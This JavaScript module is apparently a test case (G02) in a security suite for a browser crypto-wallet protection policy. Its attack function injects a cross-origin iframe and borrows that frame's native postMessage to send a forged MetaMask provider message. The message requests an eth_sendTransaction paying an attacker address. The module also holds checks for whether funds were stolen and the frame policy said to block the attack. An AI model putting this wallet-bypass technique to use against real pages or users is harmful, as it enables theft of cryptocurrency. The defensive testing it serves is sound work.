// G02: the window comes from the source of a message that a cross-origin frame sent.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G02',
  title: 'postMessage of a MessageEvent source',
  source: 'fresh-realm postMessage',
  level: 'detected',
  why: 'a cross-origin frame hands out a native postMessage that no script can cover; policy frames: "none" prevents it',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  page: {
    routes: {
      '/talk.html': () => ({ text: "<!doctype html><script>parent.postMessage('hello from the frame', '*')</script>" }),
    },
  },

  async attack(a) {
    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
    await window.ethereum.request({ method: 'eth_accounts' });
    const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
    const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
    const frame = document.createElement('iframe');
    frame.src = `${a.other}/talk.html`;
    const heard = new Promise((resolve) => {
      window.addEventListener('message', (event) => event.data === 'hello from the frame' && resolve(event.source));
    });
    document.documentElement.append(frame);
    const source = await Promise.race([heard, new Promise((resolve) => setTimeout(resolve, 2000))]);
    source.postMessage.call(window, message, location.origin);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: { surface: 'postmessage', grade: 'tamper' },
  status: (status) => status.reasons.includes('wallet-bypass'),
};
